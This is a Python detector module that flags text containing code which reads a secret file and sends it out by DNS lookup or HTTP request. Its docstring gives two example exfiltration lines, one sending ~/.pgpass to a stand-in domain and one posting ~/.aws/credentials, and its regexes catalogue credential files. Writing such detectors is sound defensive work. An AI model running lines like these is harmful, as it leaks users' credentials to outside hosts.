"""A secret file read in code and sent out in the same statement: exfiltration written as a snippet.

`socket.gethostbyname(open('/home/dev/.pgpass').read().encode().hex() + '.d.example.net')` or
`requests.post(url, data=open(os.path.expanduser('~/.aws/credentials')).read())`: the note names a file that holds
secrets (`.pgpass`, `.netrc`, `.ssh/id_*`, `.aws/credentials`, `.kube/config`, `.git-credentials`, `.env` …), reads it,
and hands what it read to a DNS lookup or as the body of a request, on one line. A snippet that only reads the file
(«права на ~/.pgpass — 0600»), or that calls an API with a token from the environment, lacks a part.
"""

from __future__ import annotations

import re
from .kinds import DNS_EXFIL, URL_EXFIL


_SINK_HINTS = ("gethostbyname", "getaddrinfo", "nslookup", "resolve(", "resolver.", "requests.", "urlopen", "httpx.", "fetch(",
               "urllib", "sendto(", ".connect(")
_SECRET_FILE = (r"(?:\.pgpass|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.ssh/\w*|id_rsa|id_ed25519|id_ecdsa|\.aws/credentials|"
                r"\.kube/config|\.docker/config\.json|/etc/shadow|\.env\b|credentials\.json|\.vault-token|\.bash_history)")
_READ = re.compile(r"(?:open|read_text|read_bytes|readfile|readfilesync|cat)\W{1,4}[^\n;]{0,80}?" + _SECRET_FILE)
# the read flows into a lookup (any argument) or into a request's body or address
_DNS_SINK = re.compile(r"(?:gethostbyname|getaddrinfo|nslookup|resolver\.\w+|resolve)\s*\([^\n]{0,200}?" + _SECRET_FILE)
_HTTP_SINK = re.compile(r"(?:requests|httpx|session)\.(?:get|post|put|request)\s*\([^\n]{0,160}?(?:data|json|files|params|content)\s*="
                        r"[^\n]{0,120}?" + _SECRET_FILE + r"|(?:urlopen|fetch)\s*\([^\n]{0,200}?" + _SECRET_FILE
                        + r"|sendto\s*\([^\n]{0,200}?" + _SECRET_FILE)


def find_code_exfil(lowered: str) -> str | None:
    """The kind when `lowered` (a note in lower case) sends a secret file's content out from code; else None."""
    if not any(hint in lowered for hint in _SINK_HINTS) or not _READ.search(lowered):
        return None
    if _DNS_SINK.search(lowered):
        return DNS_EXFIL
    if _HTTP_SINK.search(lowered):
        return URL_EXFIL
    return None
